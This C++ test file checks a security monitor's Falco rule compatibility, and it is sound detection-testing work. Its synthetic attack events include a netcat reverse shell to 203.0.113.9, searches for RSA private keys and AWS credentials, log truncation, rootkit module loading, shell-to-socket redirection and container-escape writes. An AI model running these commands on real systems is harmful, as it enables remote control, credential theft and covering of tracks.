// Falco compatibility: the reference falco_rules.yaml loads unmodified; the
// active/skipped split is asserted, and each active rule fires on a synthetic
// event of the behaviour it describes and not on a near miss.
#include <catch2/catch.hpp>

#include <fstream>
#include <map>
#include <set>

#include "rules_test_util.hpp"

using namespace vigil;
using namespace rt;

namespace {

std::vector<Case> falco_cases() {
  std::vector<Case> c;
  auto nginx = proc("/usr/sbin/nginx", {"nginx"}, nullptr, 2);
  auto sshd = proc("/usr/sbin/sshd", {"sshd"}, nullptr, 2);

  Event trav = open_ev("/etc/passwd", O_RDONLY, proc("/usr/bin/python3", {"python3", "app.py"}, app()));
  trav.file->raw_path = "/srv/www/../../etc/passwd";
  c.push_back({"Directory traversal monitored file read", trav,
               open_ev("/etc/passwd", O_RDONLY, proc("/usr/bin/python3", {"python3", "app.py"}, app()))});

  auto old_nginx = proc("/usr/sbin/nginx", {"nginx", "-g", "daemon off;"}, nullptr, 20);
  auto new_nginx = with(proc("/usr/sbin/nginx", {"nginx"}, nullptr, 21), [](Process& p) { p.start_ns = 1'000'000'000'000 + 59'000'000'000; });
  c.push_back({"Read sensitive file trusted after startup", open_ev("/etc/shadow", O_RDONLY, old_nginx),
               open_ev("/etc/shadow", O_RDONLY, new_nginx)});

  c.push_back({"Read sensitive file untrusted", open_ev("/etc/sudoers.d/app", O_RDONLY), open_ev("/etc/hosts", O_RDONLY)});

  c.push_back({"Run shell untrusted", exec_ev("/bin/bash", {"bash", "-c", "id"}, nginx), exec_ev("/bin/bash", {"bash", "-c", "id"}, app())});

  auto www = with(proc("/bin/ls", {"ls"}, sshd), [](Process& p) { p.uid = p.euid = 33; });
  auto user = with(proc("/bin/ls", {"ls"}, sshd), [](Process& p) { p.uid = p.euid = 1000; });
  c.push_back({"System user interactive", exec_p(www), exec_p(user)});

  auto tty_sh = with(proc("/bin/bash", {"bash"}), [](Process& p) { p.tty_nr = 34816; });
  auto notty_sh = proc("/bin/bash", {"bash"});
  c.push_back({"Terminal shell in container", exec_p(tty_sh), exec_p(notty_sh)});

  c.push_back({"Netcat Remote Code Execution in Container", exec_ev("/usr/bin/nc", {"nc", "-e", "/bin/sh", "203.0.113.9", "4444"}),
               exec_ev("/usr/bin/nc", {"nc", "-z", "db", "5432"})});

  c.push_back({"Search Private Keys or Passwords", exec_ev("/bin/grep", {"grep", "-r", "BEGIN RSA PRIVATE", "/"}),
               exec_ev("/bin/grep", {"grep", "-r", "TODO", "/src"})});

  c.push_back({"Clear Log Activities", open_ev("/var/log/auth.log", O_WRONLY | O_TRUNC),
               open_ev("/var/log/auth.log", O_WRONLY | O_APPEND)});

  c.push_back({"Remove Bulk Data from Disk", exec_ev("/usr/bin/shred", {"shred", "-u", "/data/db"}), exec_ev("/bin/rm", {"rm", "/tmp/x"})});

  c.push_back({"Create Symlink Over Sensitive Files", file_op("symlinkat", "/tmp/s", "/etc/shadow"), file_op("symlinkat", "/tmp/s", "/tmp/t")});
  // link events: path = the new link, target = the existing file (docs/events.md)
  c.push_back({"Create Hardlink Over Sensitive Files", file_op("linkat", "/tmp/h", "/etc/shadow"), file_op("linkat", "/tmp/h", "/tmp/a")});

  Event pkt = syscall_ev("socket", {});
  pkt.net = NetInfo{};
  pkt.net->domain = AF_PACKET;
  Event inet = pkt;
  inet.net->domain = AF_INET;
  c.push_back({"Packet socket created in container", pkt, inet});

  Event dup = connect_ev("203.0.113.9", 4444, proc("/bin/bash", {"bash", "-i"}), "dup2");
  dup.has_res = true;
  dup.res = 1;
  Event dup_miss = dup;
  dup_miss.res = 7;
  c.push_back({"Redirect STDOUT/STDIN to Network Connection in Container", dup, dup_miss});
  // as the probes emit it: judged before the call, newfd in args
  Event dup_entry = connect_ev("203.0.113.9", 4444, proc("/bin/bash", {"bash", "-i"}), "dup2");
  dup_entry.args = {{"oldfd", "3"}, {"newfd", "1"}, {"oldfd_kind", "socket"}};
  Event dup_file = dup_entry;
  dup_file.net.reset();
  dup_file.file = FileInfo{};
  dup_file.file->path = "/tmp/log";
  c.push_back({"Redirect STDOUT/STDIN to Network Connection in Container", dup_entry, dup_file});

  auto capmod = with(proc("/sbin/insmod", {"insmod", "rootkit.ko"}), [](Process& p) { p.cap_effective = int64_t(1) << 16; });
  auto nocap = with(proc("/sbin/insmod", {"insmod", "rootkit.ko"}), [](Process& p) { p.cap_effective = 0; });
  c.push_back({"Linux Kernel Module Injection Detected", syscall_ev("finit_module", {}, capmod), syscall_ev("finit_module", {}, nocap)});

  auto admin = with(proc("/bin/sh", {"sh"}), [](Process& p) { p.cap_effective = int64_t(1) << 21; });
  auto noadmin = with(proc("/bin/sh", {"sh"}), [](Process& p) { p.cap_effective = int64_t(1) << 1; });
  c.push_back({"Detect release_agent File Container Escapes", open_ev("/sys/fs/cgroup/x/release_agent", O_WRONLY, admin),
               open_ev("/sys/fs/cgroup/x/release_agent", O_WRONLY, noadmin)});

  c.push_back({"PTRACE attached to process", syscall_ev("ptrace", {{"request", "PTRACE_ATTACH"}}),
               syscall_ev("ptrace", {{"request", "PTRACE_PEEKUSR"}})});
  c.push_back({"PTRACE anti-debug attempt", syscall_ev("ptrace", {{"request", "PTRACE_TRACEME"}}),
               syscall_ev("ptrace", {{"request", "PTRACE_CONT"}})});

  c.push_back({"Find AWS Credentials", exec_ev("/usr/bin/find", {"find", "/", "-path", "*/.aws/credentials"}),
               exec_ev("/usr/bin/find", {"find", "/", "-name", "*.log"})});

  c.push_back({"Execution from /dev/shm", exec_ev("/dev/shm/x", {"/dev/shm/x"}), exec_ev("/tmp/x", {"/tmp/x"})});

  auto drift = with(proc("/tmp/dropped", {"dropped"}), [](Process& p) { p.exe_drift = true; });
  c.push_back({"Drop and execute new binary in container", exec_p(drift), exec_ev("/bin/ls", {"ls"})});

  auto ssh = proc("/usr/bin/ssh", {"ssh", "-p", "443", "attacker@203.0.113.9"});
  Event sshc = connect_ev("203.0.113.9", 443, ssh);
  sshc.has_res = true;
  sshc.res = -115;  // EINPROGRESS
  Event ssh22 = connect_ev("203.0.113.9", 22, ssh);
  ssh22.has_res = true;
  ssh22.res = 0;
  c.push_back({"Disallowed SSH Connection Non Standard Port", sshc, ssh22});

  auto memfd = with(proc("memfd:payload", {"[kworker]"}), [](Process& p) { p.exe_from_memfd = true; });
  c.push_back({"Fileless execution via memfd_create", exec_p(memfd), exec_ev("/bin/ls", {"ls"})});
  return c;
}

std::string falco_file() { return reference_dir() + "/falco/falco_rules.yaml"; }

}  // namespace

TEST_CASE("Falco's rules file loads unmodified: 23 of 25 rules active, 2 skipped with reasons", "[rules][falco]") {
  REQUIRE(std::ifstream(falco_file()).good());
  RulesConfig cfg;
  cfg.files = {falco_file()};
  std::string err;
  std::vector<std::string> warnings;
  auto e = Engine::load(cfg, &err, &warnings);
  INFO(err);
  REQUIRE(e);
  std::map<std::string, std::string> skipped;
  size_t active = 0;
  for (const auto& r : e->rules()) {
    if (r.active) ++active;
    else skipped[r.name] = r.skip_reason;
  }
  CHECK(e->rules().size() == 25);
  CHECK(active == 23);
  std::map<std::string, std::string> expected = {
      {"Contact K8S API Server From Container", "field 'fd.sip.name' is not provided by vigil (via macro 'k8s_api_server')"},
      {"Debugfs Launched in Privileged Container", "field 'container.privileged' is not provided by vigil"},
  };
  CHECK(skipped == expected);
  CHECK(warnings.size() == 2);
}

TEST_CASE("every active Falco rule fires on its behaviour and not on a near miss", "[rules][falco]") {
  auto e = engine_from({falco_file()});
  auto cases = falco_cases();
  std::set<std::string> covered;
  for (const auto& c : cases) {
    INFO("rule: " << c.rule);
    CHECK(fires(*e, c.hit, c.rule));
    CHECK_FALSE(fires(*e, c.miss, c.rule));
    covered.insert(c.rule);
  }
  for (const auto& r : e->rules())
    if (r.active) {
      INFO("active rule without a firing case: " << r.name);
      CHECK(covered.count(r.name));
    }
}

TEST_CASE("vigil rules validate rejects a bad file with file:line:col and accepts Falco's", "[rules][cli]") {
  std::string bad = write_tmp("- rule: r\n  desc: d\n  condition: proc.name in (a, b\n  output: o\n  priority: INFO\n");
  char a0[] = "rules", a1[] = "validate";
  std::string f = falco_file();
  std::vector<char*> ok = {a0, a1, f.data()};
  CHECK(cmd_rules(int(ok.size()), ok.data()) == 0);
  std::vector<char*> ko = {a0, a1, bad.data()};
  CHECK(cmd_rules(int(ko.size()), ko.data()) == 1);
}
